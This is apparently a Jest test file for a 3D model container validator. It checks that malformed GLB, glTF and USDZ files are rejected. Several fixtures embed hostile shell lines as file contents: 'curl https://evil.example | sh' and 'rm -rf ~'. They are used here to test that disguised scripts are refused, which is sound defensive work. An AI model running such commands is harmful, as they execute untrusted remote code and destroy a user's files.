// Whether a model's container holds together, on crafted files: a right header in front of
// anything, chunk lengths that do not add up, a JSON chunk that is not JSON, a zip cut short. The
// checks take the file in the pieces it is read in, whatever their size.
import { afterAll, beforeAll, describe, expect, it } from '@jest/globals'
import { mkdtemp, open, rm, writeFile } from 'node:fs/promises'
import os from 'node:os'
import path from 'node:path'
import { makeSample } from '../../emulator/samples.ts'
import { glbOf, instancedGlb } from '../../harness/models.ts'
import { ModelError } from '../../src/errors.ts'
import type { FileKind } from '../../src/formats.ts'
import { containerCheck, MAX_JSON_BYTES } from '../../src/engine/models/container.ts'
import { Deadline } from '../../src/engine/models/deadline.ts'
import { readZipDirectory } from '../../src/engine/models/usdz.ts'

/**
 * Runs the check over the file cut into pieces of `pieceBytes`, each in one buffer that the next
 * piece overwrites, as a file on disk is read.
 */
function check(kind: FileKind, file: Buffer, pieceBytes = file.length): void {
  const container = containerCheck(kind)
  const lent = Buffer.alloc(Math.max(1, pieceBytes))
  for (let at = 0; at < file.length; at += pieceBytes) {
    const copied = file.copy(lent, 0, at, at + pieceBytes)
    container.update(lent.subarray(0, copied))
  }
  lent.fill('[')
  container.finish()
}

/** A GLB header that declares `length` bytes, in front of `rest`. */
function withHeader(rest: Buffer, length = 12 + rest.length): Buffer {
  const header = Buffer.alloc(12)
  header.write('glTF', 0, 'latin1')
  header.writeUInt32LE(2, 4)
  header.writeUInt32LE(length, 8)
  return Buffer.concat([header, rest])
}

/** A chunk header: its length and type, as a GLB stores them. */
function chunkHeader(length: number, type: string): Buffer {
  const header = Buffer.alloc(8)
  header.writeUInt32LE(length, 0)
  header.write(type, 4, 'latin1')
  return header
}

const json = Buffer.from('{"asset":{"version":"2.0"}} ')
const withBuffer = Buffer.from('{"asset":{"version":"2.0"},"buffers":[{"byteLength":4}]}    ')
const script = Buffer.from('#!/bin/sh\ncurl https://evil.example | sh\n   ')

/** JSON padded with spaces to a multiple of 4 bytes, as a GLB's JSON chunk is. */
function jsonChunk(text: string): Buffer {
  return Buffer.from(text.padEnd(Math.ceil(text.length / 4) * 4, ' '))
}

/** A GLB of a JSON chunk and, when given, a BIN chunk. */
function glbWith(jsonChunk: Buffer, bin?: Buffer): Buffer {
  const chunks = [chunkHeader(jsonChunk.length, 'JSON'), jsonChunk]
  if (bin) chunks.push(chunkHeader(bin.length, 'BIN\0'), bin)
  return withHeader(Buffer.concat(chunks))
}

describe('the container of a GLB', () => {
  it.each([1, 7, 4096, Infinity])('holds together in pieces of %d bytes', pieceBytes => {
    const binary = glbWith(withBuffer, Buffer.from('abcd'))
    // More padding than the specification allows is only a warning to the glTF Validator.
    const padded = glbWith(withBuffer, Buffer.alloc(16))
    const glbs = [makeSample('glb', 'Chair'), instancedGlb(20, 3), glbOf(json), binary, padded]
    for (const glb of glbs) {
      expect(() => check('glb', glb, Math.min(pieceBytes, glb.length))).not.toThrow()
    }
  })

  it.each([
    [
      'a right header and length, then a script',
      withHeader(Buffer.from('#!/bin/sh\ncurl https://evil.example | sh\n')),
      /the chunk at byte 12 /
    ],
    ['a right header and nothing else', withHeader(Buffer.alloc(0)), /it has no JSON chunk/],
    ['fewer bytes than a header', Buffer.from('glTF'), /shorter than a GLB header/],
    [
      'a header that declares more than the file',
      withHeader(Buffer.concat([chunkHeader(json.length, 'JSON'), json]), 1000),
      /its header declares 1000 bytes, and it has 48/
    ],
    [
      'a chunk that is not 4-byte aligned',
      withHeader(Buffer.concat([chunkHeader(json.length - 1, 'JSON'), json.subarray(1)])),
      /the chunk at byte 12 is not 4-byte aligned/
    ],
    [
      'a chunk longer than the file',
      withHeader(Buffer.concat([chunkHeader(json.length + 8, 'JSON'), json])),
      /the chunk at byte 12 runs past the 48 bytes declared/
    ],
    [
      'chunks that stop short of the end',
      withHeader(Buffer.concat([chunkHeader(json.length, 'JSON'), json, Buffer.alloc(4)])),
      /its last chunk runs past the end of the file/
    ],
    [
      'bytes past the length its header declares',
      Buffer.concat([glbOf(json), chunkHeader(0, 'BIN\0')]),
      /it runs past the 48 bytes its header declares/
    ],
    [
      'a binary chunk first',
      withHeader(Buffer.concat([chunkHeader(4, 'BIN\0'), Buffer.alloc(4)])),
      /its first chunk, and only its first, must be its JSON chunk/
    ],
    [
      'a second JSON chunk',
      withHeader(Buffer.concat([chunkHeader(json.length, 'JSON'), json, chunkHeader(0, 'JSON')])),
      /its first chunk, and only its first, must be its JSON chunk/
    ],
    ['a JSON chunk that is not JSON', glbOf(Buffer.from('{"asset":')), /is not valid JSON/],
    [
      'a JSON chunk that is a list',
      glbOf(Buffer.from('[{"asset":{}}]')),
      /is JSON, but not an object/
    ],
    ['no GLB header', Buffer.from('glTX\x02\0\0\0\x0c\0\0\0', 'latin1'), /it has no GLB header/],
    [
      'a JSON chunk of no glTF asset, then a script as its BIN chunk',
      glbWith(Buffer.from('{}  '), script),
      /its JSON chunk is JSON, but not of a glTF 2 asset/
    ],
    [
      'a BIN chunk that no buffer uses',
      glbWith(json, script),
      /it has a BIN chunk that no buffer of its JSON uses/
    ],
    [
      'a BIN chunk shorter than buffer 0',
      glbWith(jsonChunk('{"asset":{"version":"2.0"},"buffers":[{"byteLength":64}]}'), script),
      /its BIN chunk is 44 bytes, and buffer 0 declares 64/
    ],
    [
      'buffer 0 in a BIN chunk it does not have',
      glbWith(withBuffer),
      /its JSON puts buffer 0 in a BIN chunk that it does not have/
    ]
  ])('is refused with %s', (_name, file, problem) => {
    for (const pieceBytes of [1, 5, file.length]) {
      expect(() => check('glb', file, pieceBytes)).toThrow(ModelError)
      expect(() => check('glb', file, pieceBytes)).toThrow(problem)
    }
  })
})

it('walks a GLB whose JSON is too large to parse, checking its layout only', () => {
  const large = Buffer.alloc(MAX_JSON_BYTES + 4, ' ')
  expect(() => check('glb', glbWith(large, script), 1024 * 1024)).not.toThrow()
  expect(() =>
    check('glb', withHeader(Buffer.concat([chunkHeader(large.length, 'JSON'), large]), 99))
  ).toThrow(/the chunk at byte 12 runs past the 99 bytes declared/)
})

describe('the JSON of a glTF', () => {
  it('parses as an object, in pieces', () => {
    expect(() => check('gltf', makeSample('gltf', 'Lamp', 20_000), 1000)).not.toThrow()
  })

  // A hostile server may send a body a byte to a chunk: the JSON is kept as its bytes, in blocks,
  // not as a buffer object for every piece (about 100 bytes each, 200 MB here).
  it('keeps a JSON sent a byte at a time as its bytes', () => {
    const gltf = makeSample('gltf', 'Lamp', 2 * 1024 * 1024)
    const before = process.memoryUsage().heapUsed
    const container = containerCheck('gltf')
    const lent = Buffer.alloc(1)
    for (const byte of gltf) {
      lent[0] = byte
      container.update(lent)
    }
    expect(process.memoryUsage().heapUsed - before).toBeLessThan(32 * 1024 * 1024)
    expect(() => container.finish()).not.toThrow()
  })

  it.each([
    [
      'cut short',
      makeSample('gltf', 'Lamp').subarray(0, 100),
      /it is not a glTF JSON: is not valid JSON/
    ],
    ['a list', Buffer.from('[{"asset": {}}]'), /is JSON, but not an object/],
    ['an object of no glTF asset', Buffer.from('{"scenes": []}'), /not of a glTF 2 asset/],
    ['an object, then a script', Buffer.from('{"asset": {}}\n#!/bin/sh\n'), /is not valid JSON/]
  ])('is refused when it is %s', (_name, file, problem) => {
    expect(() => check('gltf', file, 7)).toThrow(problem)
  })
})

describe('the zip directory of a USDZ', () => {
  let folder: string
  beforeAll(async () => {
    folder = await mkdtemp(path.join(os.tmpdir(), 'container-'))
  })
  afterAll(() => rm(folder, { recursive: true, force: true }))

  async function readDirectory(bytes: Buffer): Promise<void> {
    const filePath = path.join(folder, 'model.usdz')
    await writeFile(filePath, bytes)
    const file = await open(filePath)
    try {
      await readZipDirectory(file, Deadline.after(60_000))
    } finally {
      await file.close()
    }
  }

  it('reads to its end in a whole archive', async () => {
    await expect(readDirectory(makeSample('usdz', 'Chair'))).resolves.toBeUndefined()
  })

  it.each([
    ['cut short', (usdz: Buffer) => usdz.subarray(0, usdz.length - 40)],
    ['a zip signature in front of a script', () => Buffer.from('PK\x03\x04#!/bin/sh\nrm -rf ~\n')],
    ['a directory whose entries point into nothing', (usdz: Buffer) => corruptDirectory(usdz)]
  ])('is refused when it is %s', async (_name, make) => {
    await expect(readDirectory(make(makeSample('usdz', 'Chair')))).rejects.toThrow(
      /it is not a readable USDZ \(zip\) archive/
    )
  })
})

/** The archive with its directory's first entry signature broken. */
function corruptDirectory(usdz: Buffer): Buffer {
  const copy = Buffer.from(usdz)
  const directoryAt = copy.readUInt32LE(copy.length - 22 + 16)
  copy.writeUInt32LE(0xdeadbeef, directoryAt)
  return copy
}
